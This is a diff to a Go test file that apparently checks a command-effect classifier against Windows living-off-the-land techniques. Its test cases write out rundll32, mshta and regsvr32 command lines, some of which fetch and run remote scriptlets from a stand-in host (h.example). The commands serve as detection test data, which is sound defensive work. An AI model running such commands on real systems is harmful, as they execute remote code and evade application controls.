@@ -27,7 +27,9 @@ func TestEffectsLolbas(t *testing.T) {
 		{"rundll32 javascript", `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";GetObject("script:https://h.example/x.sct")`, []middleware.Effect{foreign, fetch("h.example")}, nil},
 		{"rundll32 javascript, no URL", `rundll32 javascript:"\..\mshtml,RunHTMLApplication ";alert(1)`, []middleware.Effect{foreign}, nil},
 		{"mshta vbscript", `mshta vbscript:Execute("MsgBox 1")`, []middleware.Effect{foreign}, nil},
-		{"mshta of a local file", `mshta app.hta`, nil, []middleware.Effect{foreign}},
+		// an HTA's script is read by nobody, and runs outside the browser's sandbox
+		{"mshta of a local file", `mshta app.hta`, []middleware.Effect{foreign, ex("app.hta")}, nil},
+		{"mshta of a Windows path", `mshta.exe C:\t\x.hta`, []middleware.Effect{foreign}, nil},
 		{"regsvr32 scrobj url", `regsvr32 /s /n /u /i:https://h.example/x.sct scrobj.dll`, []middleware.Effect{fetch("h.example"), unk(ex(""))}, nil},
 		{"regsvr32 registers", `regsvr32 /s C:\x\my.dll`, []middleware.Effect{persist("regsvr32"), ex("C:/x/my.dll")}, nil},
 		{"regsvr32 /u unregisters", `regsvr32 /u /s C:\x\my.dll`, nil, []middleware.Effect{persist("regsvr32")}},
